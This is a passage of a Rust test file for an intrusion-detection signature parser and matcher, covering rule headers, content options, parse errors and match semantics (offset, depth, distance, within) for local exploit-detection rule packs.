//! Attack signatures: the Suricata-subset rule language (header forms,
//! options, escapes, continuation lines, every error with its line), the
//! packs in `rules/signatures/`, the reference matcher's content semantics,
//! the HTTP splitter, the normaliser, and the packs against real exploit
//! requests and ordinary traffic.
use std::collections::HashMap;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use filter_common::signatures::{
    http_regions, load_pack, normalise, normalise_request, parse_pack, AddrSpec, Buffer, Content, HttpRegions,
    PortSpec, SigAction, SigProto, Signature, SignaturePack, MAX_NORMALISE_INPUT,
};

// ---- helpers ----------------------------------------------------------------

fn vars() -> HashMap<String, String> {
    [
        ("HOME_NET", "[192.0.2.0/24,2001:db8::/32]"),
        ("EXTERNAL_NET", "!$HOME_NET"),
        ("HTTP_PORTS", "[80,8080]"),
        ("$DNS_SERVERS", "198.51.100.53"),
        ("LOOP", "[10.0.0.0/8,$LOOP]"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

fn parse(text: &str) -> SignaturePack {
    parse_pack(Path::new("t.rules"), text, &vars(), false).unwrap_or_else(|e| panic!("expected a valid pack:\n{e}"))
}

/// The only rule of `text`.
fn rule(text: &str) -> Signature {
    let mut pack = parse(text);
    assert_eq!(pack.rules.len(), 1, "{text}");
    pack.rules.pop().unwrap()
}

/// A rule `alert tcp any any -> any any (<options> sid:1;)`.
fn opts(options: &str) -> Signature {
    rule(&format!("alert tcp any any -> any any ({options} sid:1;)"))
}

/// The errors as `file:line: message` strings.
fn errors(text: &str) -> Vec<String> {
    match parse_pack(Path::new("t.rules"), text, &vars(), false) {
        Ok(p) => panic!("expected errors, parsed {:#?}", p.rules),
        Err(e) => e.0.iter().map(|e| e.to_string()).collect(),
    }
}

fn assert_error(text: &str, line: usize, needle: &str) {
    let errs = errors(text);
    let prefix = format!("t.rules:{line}: ");
    assert!(
        errs.iter().any(|e| e.starts_with(&prefix) && e.contains(needle)),
        "no error starting with {prefix:?} and containing {needle:?} in {errs:#?}\nfor: {text}"
    );
}

/// One-line rule error on line 1.
fn assert_opts_error(options: &str, needle: &str) {
    assert_error(&format!("alert tcp any any -> any any ({options} sid:1;)"), 1, needle);
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn pack_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/signatures").join(name)
}

fn pack(name: &str) -> SignaturePack {
    let pack = load_pack(&pack_path(name), &vars(), false).unwrap_or_else(|e| panic!("{name}:\n{e}"));
    assert!(pack.skipped.is_empty());
    pack
}

fn all_packs() -> Vec<Signature> {
    ["spring4shell.rules", "log4shell.rules", "amplification.rules"].iter().flat_map(|n| pack(n).rules).collect()
}

/// Sids of `rules` whose contents match `payload` (HTTP regions found as the kernel would).
fn hits(rules: &[Signature], payload: &[u8]) -> Vec<u32> {
    let http = http_regions(payload);
    rules.iter().filter(|r| r.matches_payload(payload, http.as_ref())).map(|r| r.sid).collect()
}

/// Sids matching `payload` after deep-inspection normalisation.
fn deep_hits(rules: &[Signature], payload: &[u8]) -> Vec<u32> {
    let (norm, http) = normalise_request(payload);
    rules.iter().filter(|r| r.matches_payload(&norm, http.as_ref())).map(|r| r.sid).collect()
}

/// Sids whose header and contents match a TCP packet from outside to 192.0.2.10:`dport`.
fn tcp_hits(rules: &[Signature], dport: u16, payload: &[u8]) -> Vec<u32> {
    let http = http_regions(payload);
    rules
        .iter()
        .filter(|r| {
            r.matches(6, ip("198.51.100.7"), 40000, ip("192.0.2.10"), dport, &[80, 8080], payload, http.as_ref())
        })
        .map(|r| r.sid)
        .collect()
}

fn udp_hits(rules: &[Signature], dport: u16, payload: &[u8]) -> Vec<u32> {
    rules
        .iter()
        .filter(|r| r.matches(17, ip("203.0.113.66"), 80, ip("192.0.2.10"), dport, &[80], payload, None))
        .map(|r| r.sid)
        .collect()
}

/// Whether the rule with `options` matches `payload` (raw bytes, HTTP regions if any).
fn m(options: &str, payload: &[u8]) -> bool {
    let r = opts(options);
    let http = http_regions(payload);
    r.matches_payload(payload, http.as_ref())
}

fn content(bytes: &[u8]) -> Content {
    Content {
        bytes: bytes.to_vec(),
        nocase: false,
        negated: false,
        buffer: Buffer::Payload,
        offset: None,
        depth: None,
        distance: None,
        within: None,
        endswith: false,
    }
}

// ---- header -----------------------------------------------------------------

#[test]
fn header_actions_and_protocols() {
    let r = rule("drop udp any any -> any any (content:\"x\"; sid:1;)");
    assert_eq!((r.action, r.proto), (SigAction::Drop, SigProto::Udp));
    let r = rule("alert tcp any any -> any any (content:\"x\"; sid:1;)");
    assert_eq!((r.action, r.proto), (SigAction::Alert, SigProto::Tcp));
    let r = rule("alert http any any -> any any (content:\"x\"; sid:1;)");
    assert_eq!(r.proto, SigProto::Http);
    assert_eq!(r.proto.ip_proto(), 6);
    assert_eq!(r.src, AddrSpec::Any);
    assert_eq!(r.dst_ports, PortSpec::Any);
    assert_eq!(r.rev, 1);
    assert_eq!(r.msg, "");
    assert_eq!(r.line, 1);
    assert_eq!(r.file, PathBuf::from("t.rules"));
}

#[test]
fn header_addresses() {
    let r = rule("alert tcp 203.0.113.7 any -> 198.51.100.0/24 any (content:\"x\"; sid:1;)");
    assert_eq!(r.src, AddrSpec::Net("203.0.113.7/32".parse().unwrap()));
    assert_eq!(r.dst, AddrSpec::Net("198.51.100.0/24".parse().unwrap()));

    // Lists, spaces in lists, negation, nesting, IPv6.
    let r = rule("alert tcp [10.0.0.0/8, !10.1.0.0/16,[2001:db8::/32]] any -> ![192.0.2.1,192.0.2.2] any (content:\"x\"; sid:1;)");
    assert!(r.src.matches(&ip("10.2.3.4")));
    assert!(!r.src.matches(&ip("10.1.3.4")));
    assert!(r.src.matches(&ip("2001:db8::1")));
    assert!(!r.src.matches(&ip("11.0.0.1")));
    assert!(!r.dst.matches(&ip("192.0.2.1")));
    assert!(r.dst.matches(&ip("192.0.2.3")));
    assert!(r.dst.matches(&ip("2001:db8::1")));

    // A list of negations only: anything but those.
    let r = rule("alert tcp [!192.0.2.0/24,!198.51.100.0/24] any -> any any (content:\"x\"; sid:1;)");
    assert!(r.src.matches(&ip("203.0.113.1")));
    assert!(!r.src.matches(&ip("198.51.100.9")));

    // Variables, with or without `$` in the key, and a variable using another.
    let r = rule("alert tcp $EXTERNAL_NET any -> $HOME_NET any (content:\"x\"; sid:1;)");
    assert!(r.src.matches(&ip("203.0.113.1")));
    assert!(!r.src.matches(&ip("192.0.2.1")));
    assert!(!r.src.matches(&ip("2001:db8::5")));
    assert!(r.dst.matches(&ip("192.0.2.200")));
    assert!(r.dst.matches(&ip("2001:db8:1::1")));
    assert!(!r.dst.matches(&ip("192.0.3.1")));
    let r = rule("alert tcp any any -> [$DNS_SERVERS,$HOME_NET] any (content:\"x\"; sid:1;)");
    assert!(r.dst.matches(&ip("198.51.100.53")));
    assert!(r.dst.matches(&ip("192.0.2.53")));
    let r = rule("alert tcp !$HOME_NET any -> any any (content:\"x\"; sid:1;)");
    assert_eq!(r.src, AddrSpec::Not(Box::new(rule("alert tcp $HOME_NET any -> any any (content:\"x\"; sid:1;)").src)));
}

#[test]
fn header_ports() {
    let r = rule("alert tcp any 1024: -> any [80,443,8000:8099,!8080] (content:\"x\"; sid:1;)");
    assert_eq!(r.src_ports, PortSpec::Range(1024, 65535));
    assert!(r.src_ports.matches(1024) && r.src_ports.matches(65535) && !r.src_ports.matches(1023));
    for (p, want) in [(80, true), (443, true), (8000, true), (8099, true), (8080, false), (81, false), (8100, false)] {
        assert_eq!(r.dst_ports.matches(p), want, "port {p}");
    }
    let r = rule("alert tcp any :1023 -> any !22 (content:\"x\"; sid:1;)");
    assert_eq!(r.src_ports, PortSpec::Range(0, 1023));
    assert!(!r.dst_ports.matches(22) && r.dst_ports.matches(23));
    let r = rule("alert tcp any any -> any ![1:1023,3389] (content:\"x\"; sid:1;)");
    assert!(!r.dst_ports.matches(1023) && !r.dst_ports.matches(3389) && r.dst_ports.matches(1024));
    let r = rule("alert tcp any any -> any $HTTP_PORTS (content:\"x\"; sid:1;)");
    assert!(r.dst_ports.matches(8080) && !r.dst_ports.matches(443));
    let r = rule("alert udp any any -> any 53 (content:\"x\"; sid:1;)");
    assert_eq!(r.dst_ports, PortSpec::Range(53, 53));
}

#[test]
fn header_matching() {
    let r = rule("drop http $EXTERNAL_NET any -> $HOME_NET any (content:\"x\"; sid:1;)");
    let (out, home) = (ip("203.0.113.1"), ip("192.0.2.10"));
    assert!(r.matches_header(6, out, 40000, home, 80, &[80, 8080]));
    assert!(r.matches_header(6, out, 40000, home, 8080, &[80, 8080]));
    assert!(!r.matches_header(6, out, 40000, home, 443, &[80, 8080]), "not an HTTP port");
    assert!(!r.matches_header(17, out, 40000, home, 80, &[80, 8080]), "http is TCP");
    assert!(!r.matches_header(6, home, 40000, out, 80, &[80, 8080]), "wrong direction");
    let r = rule("alert udp any 53 -> 192.0.2.0/24 1024: (content:\"x\"; sid:1;)");
    assert!(r.matches_header(17, out, 53, home, 5000, &[]));
    assert!(!r.matches_header(6, out, 53, home, 5000, &[]));
    assert!(!r.matches_header(17, out, 54, home, 5000, &[]));
    assert!(!r.matches_header(17, out, 53, home, 1000, &[]));
    assert!(!r.matches_header(17, out, 53, ip("2001:db8::1"), 5000, &[]));
    let r = rule("alert tcp any any -> any any (content:\"x\"; sid:1;)");
    assert!(r.matches_header(6, ip("2001:db8::1"), 1, ip("2001:db8::2"), 2, &[]));
}

// ---- options ----------------------------------------------------------------

#[test]
fn general_options() {
    let r = rule(
        r#"drop tcp any any -> any any (msg:"a \"quoted\"\; msg \\ with\: escapes"; content:"x"; sid:9000001; rev:3; classtype:attempted-admin; reference:cve,2021-44228; reference: url, example.org/advisory; metadata: created_at 2026_01_02, edgefilter_ban 600, former_category EXPLOIT;)"#,
    );
    assert_eq!(r.msg, r#"a "quoted"; msg \ with: escapes"#);
    assert_eq!((r.sid, r.rev), (9000001, 3));
    assert_eq!(r.classtype.as_deref(), Some("attempted-admin"));
    assert_eq!(r.references, vec![("cve".into(), "2021-44228".into()), ("url".into(), "example.org/advisory".into())]);
    assert_eq!(r.ban_seconds, Some(600));
    assert_eq!(
        r.metadata,
        vec![
            ("created_at".into(), "2026_01_02".into()),
            ("edgefilter_ban".into(), "600".into()),
            ("former_category".into(), "EXPLOIT".into())
        ]
    );
    assert!(!r.to_server && !r.established);
    let r = opts("content:\"x\"; flow:to_server,established;");
    assert!(r.to_server && r.established);
    let r = opts("content:\"x\"; flow: established, from_client;");
    assert!(r.to_server && r.established);
    let r = opts("content:\"x\"; flow:to_server;");
    assert!(r.to_server && !r.established);
    // The last option's `;` may be left out; keywords are case-insensitive.
    let r = rule("alert tcp any any -> any any (CONTENT:\"x\"; Sid:7)");
    assert_eq!(r.sid, 7);
}

#[test]
fn content_escapes_and_hex() {
    let c = &opts(r#"content:"a\"b\;c\\d\:e";"#).contents[0];
    assert_eq!(c.bytes, br#"a"b;c\d:e"#);
    let c = &opts(r#"content:"|0d 0a|Host|3a 20|";"#).contents[0];
    assert_eq!(c.bytes, b"\r\nHost: ");
    let c = &opts(r#"content:"|17 00 03 2A|";"#).contents[0];
    assert_eq!(c.bytes, [0x17, 0x00, 0x03, 0x2a]);
    let c = &opts(r#"content:"|00|a|ff fe|";"#).contents[0];
    assert_eq!(c.bytes, [0, b'a', 0xff, 0xfe]);
    let c = &opts(r#"content:"|4142 43|";"#).contents[0];
    assert_eq!(c.bytes, b"ABC");
    // Parentheses inside a content do not end the options.
    let c = &opts(r#"content:"f(x)";"#).contents[0];
    assert_eq!(c.bytes, b"f(x)");
    let c = &opts("content:\"caf\u{e9}\";").contents[0];
    assert_eq!(c.bytes, "caf\u{e9}".as_bytes());
    let r = opts(r#"content:"GET"; content:!"admin"; content:! "root";"#);
    assert_eq!(
        r.contents.iter().map(|c| (c.bytes.as_slice(), c.negated)).collect::<Vec<_>>(),
        vec![(&b"GET"[..], false), (&b"admin"[..], true), (&b"root"[..], true)]
    );
}

#[test]
fn content_modifiers() {
    let r = opts(
        r#"content:"abc"; nocase; offset:2; depth:10; fast_pattern; content:"de"; distance:-3; within:5; content:"f"; distance:0; content:"g"; within:4; content:".jsp"; endswith;"#,
    );
    let c = &r.contents;
    assert_eq!(c[0], Content { nocase: true, offset: Some(2), depth: Some(10), ..content(b"abc") });
    assert_eq!(c[1], Content { distance: Some(-3), within: Some(5), ..content(b"de") });
    assert_eq!(c[2], Content { distance: Some(0), ..content(b"f") });
    assert_eq!(c[3], Content { within: Some(4), ..content(b"g") });
    assert!(c[1].is_relative() && c[2].is_relative() && c[3].is_relative() && !c[0].is_relative());
    assert_eq!(c[4], Content { endswith: true, ..content(b".jsp") });
    // startswith is depth = length, offset = 0.
    let r = opts(r#"content:"M-SEARCH"; startswith;"#);
    assert_eq!(r.contents[0], Content { offset: Some(0), depth: Some(8), ..content(b"M-SEARCH") });
    // fast_pattern with its Suricata arguments is accepted and ignored.
    let r = opts(r#"content:"abc"; fast_pattern:only;"#);
    assert_eq!(r.contents[0], content(b"abc"));
    let r = opts(r#"content:"abc"; depth:3;"#);
    assert_eq!(r.contents[0].depth, Some(3));
}

#[test]
fn sticky_buffers_and_legacy_modifiers() {
    let r = opts(
        r#"http.method; content:"POST"; http.uri; content:"/login"; content:"x"; distance:0; http.host; content:"example"; http.header; content:"User-Agent"; http.request_body; content:"user="; pkt_data; content:"tail";"#,
    );
    let buffers: Vec<Buffer> = r.contents.iter().map(|c| c.buffer).collect();
    assert_eq!(
        buffers,
        [
            Buffer::HttpMethod,
            Buffer::HttpUri,
            Buffer::HttpUri,
            Buffer::HttpHost,
            Buffer::HttpHeader,
            Buffer::HttpBody,
            Buffer::Payload
        ]
    );
    let r = opts(
        r#"content:"GET"; http_method; content:"/a"; http_uri; content:"h"; http_host; content:"H"; http_header; content:"b"; http_client_body; content:"p";"#,
    );
    let buffers: Vec<Buffer> = r.contents.iter().map(|c| c.buffer).collect();
    assert_eq!(
        buffers,
        [Buffer::HttpMethod, Buffer::HttpUri, Buffer::HttpHost, Buffer::HttpHeader, Buffer::HttpBody, Buffer::Payload]
    );
    // Modifiers may come in any order around the legacy buffer modifier.
    let r = opts(r#"content:"/A"; nocase; http_uri; depth:4;"#);
    assert_eq!(r.contents[0], Content { nocase: true, depth: Some(4), buffer: Buffer::HttpUri, ..content(b"/A") });
}

#[test]
fn continuation_lines_comments_and_line_numbers() {
    let text = "# a comment\n\
                \n\
                \x20  # an indented comment\n\
                alert tcp any any -> any any (msg:\"one\"; \\\n\
                \x20   content:\"a\"; \\\n\
                \x20   sid:1;)\n\
                drop udp any any -> any 53 (msg:\"two\"; content:\"b\"; sid:2;)\r\n\
                \r\n\
                alert tcp any any -> any any (msg:\"three\"; content:\"c\"; \\   \n\
                sid:3;)";
    let p = parse(text);
    assert_eq!(
        p.rules.iter().map(|r| (r.sid, r.line, r.msg.as_str())).collect::<Vec<_>>(),
        [(1, 4, "one"), (2, 7, "two"), (3, 9, "three")]
    );
    // A backslash inside a string at the end of a line continues too, as in Suricata.
    let r = rule("alert tcp any any -> any any (content:\"ab\\\ncd\"; sid:1;)");
    assert_eq!(r.contents[0].bytes, b"abcd");
    // An empty pack and a pack of comments are valid.
    assert!(parse("").rules.is_empty());
    assert!(parse("# nothing\n\n").rules.is_empty());
    // Errors point at the physical line of the option.
    let text = "alert tcp any any -> any any (msg:\"x\"; \\\n  content:\"a\"; \\\n  depth:0; \\\n  sid:1;)";
    assert_error(text, 3, "depth 0");
    let text = "\n\nalert tcp any any -> any any (msg:\"x\"; \\\n  pcre:\"/a/\"; \\\n  sid:1;)";
    assert_error(text, 4, "unsupported keyword pcre");
}

// ---- errors -----------------------------------------------------------------

#[test]
fn header_errors() {
    assert_error("alert tcp any any -> any (content:\"x\"; sid:1;)", 1, "found 6 fields");
    assert_error("alert tcp any any any -> any any (content:\"x\"; sid:1;)", 1, "found 8 fields");
    assert_error("alert tcp any any -> any any content:\"x\"; sid:1;", 1, "expected `(`");
    assert_error("alert tcp any any -> any any (content:\"x\"; sid:1;", 1, "not closed with `)`");
    assert_error("alert tcp any any -> any any (content:\"x\"; sid:1;) trailing", 1, "after the closing `)`");
    assert_error("block tcp any any -> any any (content:\"x\"; sid:1;)", 1, "unknown action `block`");
    assert_error("pass tcp any any -> any any (content:\"x\"; sid:1;)", 1, "action pass is not supported");
    assert_error("alert tcpp any any -> any any (content:\"x\"; sid:1;)", 1, "unknown protocol `tcpp`");
    assert_error("alert dns any any -> any any (content:\"x\"; sid:1;)", 1, "protocol dns is not supported");
    assert_error("alert tcp any any <> any any (content:\"x\"; sid:1;)", 1, "bidirectional rules are not supported");
    assert_error("alert tcp any any <- any any (content:\"x\"; sid:1;)", 1, "expected `->`");
    assert_error("alert tcp $NOPE any -> any any (content:\"x\"; sid:1;)", 1, "unknown variable $NOPE");
    assert_error("alert tcp any any -> any $NOPE_PORTS (content:\"x\"; sid:1;)", 1, "unknown variable $NOPE_PORTS");
    assert_error("alert tcp $LOOP any -> any any (content:\"x\"; sid:1;)", 1, "nested too deeply");
    assert_error("alert tcp !any any -> any any (content:\"x\"; sid:1;)", 1, "`!any` matches nothing");
    assert_error("alert tcp 192.0.2.1/24 any -> any any (content:\"x\"; sid:1;)", 1, "host bits set");
    assert_error("alert tcp foo any -> any any (content:\"x\"; sid:1;)", 1, "`foo` is not an IP address");
    assert_error("alert tcp [1.2.3.4, any -> any any (content:\"x\"; sid:1;)", 1, "fields");
    assert_error("alert tcp [] any -> any any (content:\"x\"; sid:1;)", 1, "empty list");
    assert_error("alert tcp [1.2.3.4,] any -> any any (content:\"x\"; sid:1;)", 1, "empty element");
    assert_error("alert tcp any 70000 -> any any (content:\"x\"; sid:1;)", 1, "`70000` is not a port number");
    assert_error("alert tcp any 90:80 -> any any (content:\"x\"; sid:1;)", 1, "empty port range 90:80");
    assert_error("alert tcp any 80-90 -> any any (content:\"x\"; sid:1;)", 1, "written `low:high`");
    assert_error("alert tcp any : -> any any (content:\"x\"; sid:1;)", 1, "not a port range");
    assert_error("alert tcp any any -> any !any (content:\"x\"; sid:1;)", 1, "destination port `!any`");
}

#[test]
fn option_errors() {
    assert_opts_error("content:\"x\"; pcre:\"/x/i\";", "unsupported keyword pcre");
    assert_opts_error("content:\"x\"; isdataat:1,relative;", "unsupported keyword isdataat");
    assert_opts_error("http.user_agent; content:\"x\";", "unsupported keyword http.user_agent");
    assert_opts_error("content:\"x\"; flow:to_client;", "flow:to_client is not supported");
    assert_opts_error("content:\"x\"; flow:stateless;", "flow option stateless is not supported");
    assert_opts_error("content:\"x\"; flow:sideways;", "unknown flow option `sideways`");
    assert_opts_error("content:\"x\"; flow:to_server; flow:established;", "flow given twice");
    assert_opts_error("nocase; content:\"x\";", "`nocase` must follow a content");
    assert_opts_error("depth:3; content:\"x\";", "`depth` must follow a content");
    assert_opts_error("content:\"x\"; http.uri; nocase; content:\"y\";", "`nocase` after http.uri with no content");
    assert_opts_error("content:\"x\"; http.uri;", "http.uri is not followed by any content");
    assert_opts_error("http.uri; http.host; content:\"x\";", "http.uri is not followed by any content");
    assert_opts_error("content:\"abcd\"; depth:3;", "depth 3 is smaller than the content length 4");
    assert_opts_error("content:\"abcd\"; depth:0;", "depth 0: expected 1 to 65535");
    assert_opts_error("content:\"a\"; offset:-1;", "offset -1: expected 0 to 65535");
    assert_opts_error("content:\"a\"; offset:70000;", "offset 70000");
    assert_opts_error("content:\"a\"; content:\"bcd\"; within:2;", "within 2 is smaller than the content length 3");
    assert_opts_error("content:\"a\"; distance:-70000;", "distance -70000");
    assert_opts_error("content:\"a\"; depth:x1;", "byte_extract variables are not supported");
    assert_opts_error("content:\"a\"; depth:1.5;", "depth `1.5`: expected an integer");
    assert_opts_error("content:\"a\"; depth:2; distance:0;", "distance cannot be combined with offset/depth");
    assert_opts_error("content:\"a\"; within:2; offset:1;", "offset cannot be combined with distance/within");
    assert_opts_error("content:\"a\"; startswith; depth:2;", "depth cannot be combined with startswith");
    assert_opts_error("content:\"a\"; offset:1; startswith;", "startswith cannot be combined");
    assert_opts_error("content:\"a\"; nocase; nocase;", "nocase given twice for the same content");
    assert_opts_error("content:\"a\"; depth:2; depth:3;", "depth given twice");
    assert_opts_error("content:\"a\"; http_uri; http_host;", "already has a buffer modifier");
    assert_opts_error(
        "http.uri; content:\"a\"; http_uri;",
        "cannot be used on a content in the sticky buffer http.uri",
    );
    assert_opts_error("content:\"a\"; nocase:1;", "`nocase` takes no value");
    assert_opts_error("content:\"a\"; depth;", "`depth` needs a value");
    assert_opts_error("content;", "`content` needs a value");
    assert_opts_error("content:abc;", "expected a quoted string");
    assert_opts_error("content:\"\";", "empty content");
    assert_opts_error("content:\"a\"b\";", "unexpected text after the closing quote");
    assert_opts_error("content:\"a\\x\";", "invalid escape `\\x`");
    assert_opts_error("content:\"a;\";", "unterminated string");
    assert_opts_error("content:\"|0d 0|\";", "odd number of hex digits");
    assert_opts_error("content:\"|0g|\";", "`g` is not a hex digit");
    assert_opts_error("content:\"|0d 0a\";", "unterminated |hex| block");
    assert_opts_error("content:\"||\";", "empty |hex| block");
    assert_opts_error("msg:\"x; content:\"a\";", "msg: unterminated string");
    assert_opts_error("msg:\"a\"; msg:\"b\"; content:\"a\";", "msg given twice");
    assert_opts_error("content:\"a\"; rev:x;", "rev `x`: expected a number");
    assert_opts_error("content:\"a\"; classtype:not a class;", "classtype `not a class`");
    assert_opts_error("content:\"a\"; reference:cve;", "expected `kind,value`");
    assert_opts_error("content:\"a\"; metadata:lonely;", "metadata `lonely`: expected `key value`");
    assert_opts_error("content:\"a\"; metadata:edgefilter_ban 0;", "edgefilter_ban `0`: expected seconds");
    assert_opts_error("content:\"a\"; metadata:edgefilter_ban 604801;", "edgefilter_ban `604801`");
    assert_opts_error("content:\"a\"; metadata:edgefilter_ban soon;", "edgefilter_ban `soon`");
    assert_opts_error("content:\"a\"; metadata:edgefilter_ban 60, edgefilter_ban 60;", "edgefilter_ban given twice");
    assert_opts_error("content:\"a\"; metadata:edgefilter_ban 600;", "edgefilter_ban needs action drop");
    assert_opts_error("content:!\"a\";", "only negated contents");
    assert_opts_error("msg:\"no content\";", "no content");
    assert_opts_error("content:\"a\"; \"stray\";", "expected an option keyword");
    assert_opts_error("content:\"a\"; sid:2;", "sid given twice");
    assert_error("alert tcp any any -> any any (content:\"x\"; sid:0;)", 1, "sid `0`");
    assert_error("alert tcp any any -> any any (content:\"x\";)", 1, "the rule has no sid");
    assert_error(
        "alert udp any any -> any any (http.uri; content:\"x\"; sid:1;)",
        1,
        "http.uri needs protocol http or tcp",
    );
    assert_error("alert udp any any -> any any (content:\"x\"; http_header; sid:1;)", 1, "http.header needs protocol");
    assert_error("alert tcp any any -> any any (content:\"x\"; \\\n sid:1;) \\", 1, "file ends there");
}

#[test]
fn duplicate_sids_and_all_errors_at_once() {
    let text = "alert tcp any any -> any any (content:\"a\"; sid:5;)\n\
                alert tcp any any -> any any (content:\"b\"; sid:6;)\n\
                alert tcp any any -> any any (content:\"c\"; \\\n sid:5;)\n\
                alert tcp any any -> any any (content:\"d\"; depth:0; sid:7;)\n\
                alert tcp any any -> any any (content:\"e\"; pcre:\"/x/\"; sid:8;)\n";
    let errs = errors(text);
    assert_eq!(
        errs,
        [
            "t.rules:4: duplicate sid 5 (first used at line 1)",
            "t.rules:5: depth 0: expected 1 to 65535",
            "t.rules:6: unsupported keyword pcre",
        ]
    );
}

#[test]
fn skip_unsupported() {
    let good = "alert tcp any any -> any any (content:\"a\"; sid:1;)\n\
                alert http any any -> any any (http.uri; content:\"b\"; sid:2;)\n";
    let unsupported = "alert tcp any any -> any any (content:\"c\"; pcre:\"/c/\"; sid:3;)\n\
                       alert dns any any -> any any (dns.query; content:\"evil\"; sid:4;)\n\
                       alert tcp any any -> any any (pcre:\"/only pcre/\"; sid:5;)\n\
                       alert tcp any any -> any any (content:\"d\"; flow:to_client; sid:6;)\n\
                       alert tcp any any <> any any (content:\"e\"; sid:7;)\n\
                       pass tcp any any -> any any (content:\"f\"; sid:8;)\n\
                       alert tcp any any -> any any (content:\"g\"; byte_extract:2,0,len; content:\"h\"; distance:len; sid:9;)\n\
                       alert http any any -> any any (http.uri; pcre:\"/^x/U\"; http.header; bsize:>10; nocase; sid:10;)\n";
    let syntax = "alert tcp any any -> any any (content:\"i\"; depth:0; sid:11;)\n";
    let file = Path::new("t.rules");

    let text = format!("{good}{unsupported}");
    let p = parse_pack(file, &text, &vars(), true).unwrap();
    assert_eq!(p.rules.iter().map(|r| r.sid).collect::<Vec<_>>(), [1, 2]);
    assert_eq!(p.skipped.len(), 8);
    let skipped: Vec<String> = p.skipped.iter().map(|e| e.to_string()).collect();
    assert_eq!(skipped[0], "t.rules:3: unsupported keyword pcre");
    assert_eq!(
        skipped[1],
        "t.rules:4: protocol dns is not supported (only tcp, udp and http); unsupported keyword dns.query"
    );
    assert_eq!(skipped[2], "t.rules:5: unsupported keyword pcre");
    assert!(skipped[3].starts_with("t.rules:6: flow:to_client is not supported"));
    assert_eq!(skipped[4], "t.rules:7: bidirectional rules are not supported");
    assert!(skipped[5].starts_with("t.rules:8: action pass is not supported"));
    assert!(skipped[6].starts_with("t.rules:9: unsupported keyword byte_extract"));
    // Sticky buffers and modifiers without a content of their own belong to
    // the unsupported keywords here: not errors.
    assert_eq!(skipped[7], "t.rules:10: unsupported keyword pcre; unsupported keyword bsize");

    // Without skipping, every unsupported rule is an error.
    let errs = parse_pack(file, &text, &vars(), false).unwrap_err();
    assert_eq!(errs.0.len(), 11, "{errs}");
    assert!(errs.0.iter().all(|e| e.line >= 3));

    // A syntax error fails the pack even when skipping.
    let text = format!("{good}{unsupported}{syntax}");
    let errs = parse_pack(file, &text, &vars(), true).unwrap_err();
    assert_eq!(errs.to_string(), "t.rules:11: depth 0: expected 1 to 65535");
    // So does a rule with both kinds of problem.
    let text = "alert tcp any any -> any any (content:\"c\"; pcre:\"/c/\"; depth:0; sid:3;)\n";
    let errs = parse_pack(file, text, &vars(), true).unwrap_err();
    assert_eq!(errs.0.len(), 2, "{errs}");
}

// ---- the packs --------------------------------------------------------------

#[test]
fn packs_parse_without_skipping() {
    let mut sids = std::collections::HashSet::new();
    for name in ["spring4shell.rules", "log4shell.rules", "amplification.rules"] {
        let p = pack(name);
        assert!(!p.rules.is_empty(), "{name}");
        for r in &p.rules {
            assert!(r.sid >= 9_000_001, "{name}: sid {} outside the local range", r.sid);
            assert!(sids.insert(r.sid), "sid {} in two packs", r.sid);
            assert!(!r.msg.is_empty() && r.classtype.is_some(), "{name}: sid {}", r.sid);
            assert!(r.src.matches(&ip("203.0.113.1")) && !r.src.matches(&ip("192.0.2.1")), "sid {}", r.sid);
            assert!(r.dst.matches(&ip("192.0.2.1")) && !r.dst.matches(&ip("203.0.113.1")), "sid {}", r.sid);
        }
        // Also with skipping: nothing to skip.
        let p2 = load_pack(&pack_path(name), &vars(), true).unwrap();
        assert_eq!(p2, p);
    }
    for r in pack("log4shell.rules").rules {
        assert_eq!((r.action, r.ban_seconds), (SigAction::Drop, Some(600)), "sid {}", r.sid);
    }
    assert!(pack("spring4shell.rules").rules.iter().all(|r| r.action == SigAction::Drop && r.proto == SigProto::Http));
    // Unknown variables are an error: the packs need HOME_NET and EXTERNAL_NET.
    let errs = load_pack(&pack_path("log4shell.rules"), &HashMap::new(), true).unwrap_err();
    assert!(errs.0.iter().all(|e| e.message.contains("unknown variable $")), "{errs}");
}

// ---- matcher ------------------------------------------------------------------

#[test]
fn offset_and_depth() {
    let o = r#"content:"abc"; offset:2; depth:3;"#;
    assert!(m(o, b"xxabc"));
    assert!(!m(o, b"xxxabc"), "ends after offset + depth");
    assert!(!m(o, b"abc"), "before offset");
    assert!(!m(o, b"xxab"));
    let o = r#"content:"abc"; depth:4;"#;
    assert!(m(o, b"xabc"));
    assert!(!m(o, b"xxabc"));
    let o = r#"content:"abc"; offset:1;"#;
    assert!(m(o, b"abcabc"), "second occurrence");
    assert!(!m(o, b"abcxx"));
    let o = r#"content:"M-SEARCH"; startswith;"#;
    assert!(m(o, b"M-SEARCH * HTTP/1.1"));
    assert!(!m(o, b" M-SEARCH * HTTP/1.1"));
    assert!(!m(r#"content:"abc"; offset:10;"#, b"abc"), "offset past the end");
}

#[test]
fn distance_and_within() {
    let o = r#"content:"a"; content:"b"; distance:1; within:2;"#;
    assert!(m(o, b"axb"));
    assert!(m(o, b"axxb"));
    assert!(!m(o, b"ab"), "distance 1 skips a byte");
    assert!(!m(o, b"axxxb"), "beyond within");
    let o = r#"content:"a"; content:"b"; distance:0; within:1;"#;
    assert!(m(o, b"ab"));
    assert!(!m(o, b"a b"));
    // within alone counts from the end of the previous match.
    let o = r#"content:"ab"; content:"cd"; within:3;"#;
    assert!(m(o, b"abxcd"));
    assert!(!m(o, b"abxxcd"));
    // distance alone: anywhere after.
    let o = r#"content:"ab"; content:"cd"; distance:2;"#;
    assert!(m(o, b"abxxcd"));
    assert!(m(o, b"cdabxxxxxxcd"));
    assert!(!m(o, b"abxcd"));
    assert!(!m(o, b"cdab"));
    // Negative distance looks back.
    let o = r#"content:"def"; content:"abc"; distance:-6; within:3;"#;
    assert!(m(o, b"abcdef"));
    assert!(!m(o, b"abcxdef"));
    let o = r#"content:"def"; content:"abc"; distance:-100;"#;
    assert!(m(o, b"abcdef"), "the window start is clamped at the buffer start");
    // A relative first content is relative to the buffer start.
    assert!(m(r#"content:"b"; distance:1; within:1;"#, b"ab"));
    assert!(!m(r#"content:"b"; distance:1; within:1;"#, b"b"));
    // Relative to the previous *positive* content: a negated one does not move the anchor.
    let o = r#"content:"a"; content:!"z"; distance:5; content:"b"; distance:0; within:1;"#;
